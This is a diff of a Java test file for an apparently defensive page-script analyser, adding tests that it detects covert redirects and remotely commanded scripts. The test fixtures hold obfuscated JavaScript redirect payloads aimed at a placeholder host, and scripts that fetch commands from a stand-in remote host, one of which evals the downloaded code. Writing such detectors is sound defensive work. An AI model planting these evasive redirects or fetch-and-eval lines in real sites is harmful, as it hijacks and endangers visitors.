@@ -121,7 +121,7 @@ class ScriptsTest {
         assertThat(scripts.read(PageOf.scripts(List.of(PageOf.handler(Script.Kind.UNASKED, code)))))
                 .hasSize(1);
         assertThat(scripts.read(PageOf.scripts(List.of(PageOf.handler(Script.Kind.HANDLER, code)))))
-                .isEmpty();
+                .allSatisfy(ScriptsTest::doesNothing);
     }
 
     @ParameterizedTest
@@ -131,8 +131,49 @@ class ScriptsTest {
             "function go(){ location.href='https://other.example/' }",
             "if(location.protocol!='https:')location.href='https:'+location.href.substring(location.protocol.length)",
             "document.title", "var x = {\"a\": \"<b>x</b>\"}; document.getElementById('q').innerHTML = x.a;"})
-    void ordinaryScriptHasNoOutcome(String script) {
-        assertThat(scripts.read(PageOf.scripts(script))).isEmpty();
+    void ordinaryScriptDoesNothing(String script) {
+        assertThat(scripts.read(PageOf.scripts(script))).allSatisfy(ScriptsTest::doesNothing);
+    }
+
+    /** What it names a person may still start. */
+    private static void doesNothing(ScriptOutcome outcome) {
+        assertThat(outcome.writes()).isEmpty();
+        assertThat(outcome.targets()).extracting(Target::means).containsOnly(Means.NAMED);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "Reflect.set(globalThis,['loc','ation'].join(''),unescape('%68%74%74%70%73%3a%2f%2fnhacai789.example/'))",
+            "window.name.length||parent['loc\\x61tion']['\\x61ssign']('\\x2f\\x2fnhacai789.example/')",
+            "[].constructor.constructor('u','location=u')(['https','nhacai789.example/'].join('://'))",
+            "(async()=>{await 0;location='https://nhacai789.'+'example/'})()",
+            "localStorage.da||window.open('https://nhacai789.example/')",
+            "!function(){var d=[51,47,47,43,40,97,116,116,53,51,58,56,58,50,108,99,98,117,62,35,58,54,43,55,62,116],s='';"
+                    + "for(var i=0;i<d.length;i++)s+=String.fromCharCode(d[i]^91);Function('location=\"'+s+'\"')()}()"})
+    void roundaboutWayIsFollowed(String script) {
+        assertThat(only(script).targets()).extracting(Target::url).first().asString()
+                .endsWith("//nhacai789.example/");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "fetch('https://lenh.example.net/a').then(r=>r.json()).then(j=>{if(j.on)location=j.u})",
+            "(async function(){const r=await fetch('https://lenh.example.net/a');location.replace((await r.json()).u)})()",
+            "fetch('https://lenh.example.net/a').then(r=>r.text()).then(t=>eval(t))",
+            "var x=new XMLHttpRequest();x.onload=function(){location.href=JSON.parse(this.responseText).url};"
+                    + "x.open('GET','https://lenh.example.net/a');x.send()",
+            "$.getJSON('https://lenh.example.net/a',function(d){if(d.x)top.location='https://'+d.host+'/'})"})
+    void answerThatIsObeyedIsTold(String script) {
+        assertThat(only(script).targets())
+                .anySatisfy(target -> assertThat(target).isEqualTo(new Target("https://lenh.example.net/a",
+                        Means.OBEYED, Set.of(Visitor.values()))));
+    }
+
+    @Test
+    void answerThatIsTakenAlongIsNotObeyed() {
+        assertThat(only("fetch('https://lenh.example.net/a').then(r=>r.json())"
+                + ".then(j=>{location='https://nhacai789.example/?q='+j.q})").targets())
+                .extracting(Target::means).doesNotContain(Means.OBEYED);
     }
 
     @Test
